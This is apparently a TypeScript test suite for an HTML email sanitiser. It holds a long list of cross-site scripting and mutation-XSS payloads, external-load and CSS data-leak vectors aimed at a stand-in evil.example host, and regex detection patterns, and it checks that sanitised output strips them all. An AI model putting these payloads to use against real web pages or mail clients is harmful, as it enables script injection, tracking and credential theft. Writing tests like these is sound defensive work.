import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sanitiseHtml } from './sanitise';
import { htmlToText } from './to-text';

const clean = (html: string) =>
  sanitiseHtml(html, { image: (source) => (source.startsWith('cid:') || source === '/ours' ? '/ours' : null) });

// Each line is something that was used, or could be, to run code, load from outside, or draw over our interface.
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onload="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/a.png 2x">',
  '<img src="https://evil.example/track.gif">',
  '<img src="//evil.example/track.gif">',
  '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="/settings?delete=all">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a onclick="alert(1)" href="https://good.example">x</a>',
  '<a href="https://good.example" target="_top" rel="opener">x</a>',
  '<a ping="https://evil.example/p" href="https://good.example">x</a>',
  '<body onload=alert(1) background="https://evil.example/b.png">x</body>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<form action="https://evil.example"><input name=p type=password><button>Sign in</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preload" as="image" href="https://evil.example/x.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
  '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea></textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php alert(1) ?>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/p.png" onerror=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<table background="https://evil.example/b.png"><td background="https://evil.example/b.png">x</td></table>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background:u\\72l(https://evil.example/x.png)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/x.png\' 1x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<div style="behavior:url(https://evil.example/x.htc)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="position:absolute;z-index:9999">x</div>',
  '<div style="position:/**/fixed">x</div>',
  '<div style="content:url(https://evil.example/x.png)">x</div>',
  '<div style="list-style:url(https://evil.example/x.png)">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="background:ur/**/l(https://evil.example/x.png)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@import url(//evil.example/x.css); p{color:red}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>',
  '<style>p{background:url(https://evil.example/x.png)}</style>',
  '<style>@media screen{p{background:url(https://evil.example/x.png)}}</style>',
  '<style>p{position:fixed}</style>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<style></style/><img src=x onerror=alert(1)></style>',
  '<style>a{color:red}<!--</style><img src=x onerror=alert(1)>--></style>',
  '<style>@keyframes x{from{background:url(https://evil.example/)}}</style>',
  '<style>p{color:red;background:\\75rl(https://evil.example/)}</style>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=cid:x>',
  '<portal src="https://evil.example"></portal>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p id="root" name="csrf" contenteditable onblur=alert(1)>x</p>',
  '<a href="https://good.example" style="position:fixed;inset:0">x</a>',
  `${'<div>'.repeat(5_000)}<script>alert(1)</script>`,
];

// The attribute and element names, functions and schemes that must not be in any result.
const forbidden: readonly [string, RegExp][] = [
  ['a script', /<\s*script/i],
  ['an event handler', /\son[a-z]+\s*=/i],
  ['a javascript or vbscript address', /(?:href|src|action)\s*=\s*["']?\s*(?:java|vb)\s*script:/i],
  ['a load from outside', /(?:src|srcset|background|poster|data|lowsrc|dynsrc|ping)\s*=\s*["']?\s*(?:https?:)?\/\//i],
  ['a load by CSS', /url\s*\(|image-set\s*\(|@import|@font-face/i],
  ['an overlay', /position\s*:/i],
  ['code in CSS', /expression\s*\(|behavior\s*:|-moz-binding/i],
  [
    'an element with a will of its own',
    /<\s*(?:iframe|object|embed|applet|form|input|button|textarea|select|base|meta|link|svg|math|video|audio|portal|noscript|template|xmp|plaintext|body|html|map|area|isindex|marquee)\b/i,
  ],
  ['an address into our own site', /href\s*=\s*["']?\//i],
  ['a way back to the opener', /target="_top"|rel="opener"/i],
  ['an SVG or HTML data address', /data:(?:image\/svg|text)/i],
  ['a name that could shadow ours', /\s(?:id|name)=/i],
];

test(`${hostile.length} hostile bodies lose what makes them dangerous`, () => {
  for (const body of hostile) {
    const result = clean(body);
    // What is left as escaped text is only text.
    const markup = result.replace(/&lt;[\s\S]*?(?=<|$)/g, '');
    for (const [what, pattern] of forbidden)
      assert.doesNotMatch(markup, pattern, `${what} in ${JSON.stringify(result)} from ${JSON.stringify(body)}`);
  }
});

test('cleaning what is clean changes nothing: no second meaning appears when it is read again', () => {
  for (const body of hostile) {
    const once = clean(body);
    assert.equal(clean(once), once, body);
  }
});

test('the look of ordinary mail survives', () => {
  const result = clean(
    '<html><head><title>Subject</title><style>p.big { font-size: 20px; color: #333 } @media (max-width:600px){.w{width:100% !important}}</style></head>' +
      '<body bgcolor="#eee" style="margin:0;font-family:Arial,sans-serif"><table width="600" cellpadding="0"><tr><td align="center" style="padding:10px 4px;background-color:rgb(1,2,3)">' +
      '<p class="big">Hello <b>Zoé</b> &amp; all</p><a href="https://shop.example/?a=1&amp;b=2">Shop</a></td></tr></table></body></html>',
  );
  assert.match(result, /<div bgcolor="#eee" style="margin:0;font-family:Arial,sans-serif">/);
  assert.match(result, /<style>p\.big\{font-size:20px;color:#333\}\n@media \(max-width:600px\)\{\.w\{width:100% !important\}\}<\/style>/);
  assert.match(result, /<td align="center" style="padding:10px 4px;background-color:rgb\(1,2,3\)">/);
  assert.match(result, /<a href="https:\/\/shop\.example\/\?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Shop<\/a>/);
  assert.doesNotMatch(result, /Subject/);
});

test('images come from where the caller says, or from the message itself', () => {
  assert.equal(clean('<img src="cid:logo@x" alt="Logo" width="10">'), '<img alt="Logo" width="10" src="/ours" />');
  assert.match(clean('<img src="data:image/png;base64,iVBORw0KGgo=">'), /src="data:image\/png;base64,iVBORw0KGgo="/);
  assert.equal(clean('<img src="https://evil.example/x.png" alt="x">'), '<img alt="x" />');
});

test('a body of absurd size or depth is cut, not choked on', () => {
  const began = performance.now();
  assert.ok(clean(`${'<b>'.repeat(400_000)}text`).length < 5_000_000);
  assert.ok(htmlToText(`${'<b>'.repeat(400_000)}text`).length < 100);
  assert.ok(clean('x'.repeat(10_000_000)).length <= 3_000_000);
  // Uncut, this takes half a minute.
  assert.ok(performance.now() - began < 10_000);
});
